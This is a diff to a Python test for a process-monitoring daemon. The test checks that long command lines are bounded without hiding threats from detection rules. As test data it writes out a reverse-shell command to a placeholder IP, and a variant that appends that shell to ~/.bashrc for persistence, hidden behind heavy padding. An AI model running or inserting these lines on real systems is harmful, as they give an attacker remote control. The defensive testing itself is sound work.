@@ -603,11 +603,29 @@ def test_recent_execs_are_capped_and_rules_never_hold_back_intake(
     flood of huge execs run behind the behavioural check of each exec, a bounded time per
     loop turn, so a reverse shell's exec is judged at intake whatever came before it."""
     from coi_tui.monitor import daemon as daemon_mod
-    from coi_tui.monitor.daemon import RECENT_ARGS, RECENT_BYTES, Daemon, Watched, clip_argv
+    from coi_tui.monitor.daemon import (
+        RECENT_ARGS,
+        RECENT_BYTES,
+        RULE_ARGV_BYTES,
+        Daemon,
+        Watched,
+        bound_argv,
+        clip_argv,
+    )
 
     assert clip_argv(["a"] * 500) == ["a"] * RECENT_ARGS
     clipped = clip_argv(["sh", "-c", ">" * 120_000, "x"])
     assert sum(len(a) for a in clipped) <= RECENT_BYTES and clipped[:2] == ["sh", "-c"]
+
+    # what the rules see of one exec is bounded too, and keeps both ends of a padded payload
+    padded = ">" * 120_000 + "\necho 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> ~/.bashrc"
+    for argv in (["sh", "-c", padded], ["x"] * 200_000, ["a" * 100_000] * 15 + ["tail"]):
+        bounded = bound_argv(argv)
+        assert sum(len(a) + 1 for a in bounded) <= RULE_ARGV_BYTES + 8
+        assert bounded[0].startswith(argv[0][:100]) and bounded[-1].endswith(argv[-1][-4:])
+    assert bound_argv(["ls", "-l"]) == ["ls", "-l"]
+    found_padded = rules.cmdline_threats(1, bound_argv(["sh", "-c", padded]), "/bin/sh")
+    assert "persist.shell-rc" in {t.rule_id for t in found_padded}
 
     judged: list[set[int] | None] = []
     monkeypatch.setattr(
@@ -616,12 +634,12 @@ def test_recent_execs_are_capped_and_rules_never_hold_back_intake(
     daemon = Daemon.__new__(Daemon)
     daemon.config = MonitorConfig()
     daemon.timers, daemon.pending = [], set()
-    daemon.rule_queue, daemon.rules_skipped = daemon_mod.deque(), 0
+    daemon.rule_queue, daemon.rules_skipped, daemon.capture_r = daemon_mod.deque(), 0, -1
     found: list[rules.Threat] = []
     daemon.respond = lambda watched, threats, now: found.extend(threats)  # type: ignore[method-assign]
     watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/"), "uuid-1")
     daemon.watched = {"c": watched}
-    huge = ["sh", "-c", ">" * 120_000]
+    huge = bound_argv(["sh", "-c", ">" * 120_000])  # as the capture process forwards it
     for pid in range(100, 140):
         daemon.on_exec(watched, pid, huge, time.monotonic(), 1)
     shell = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
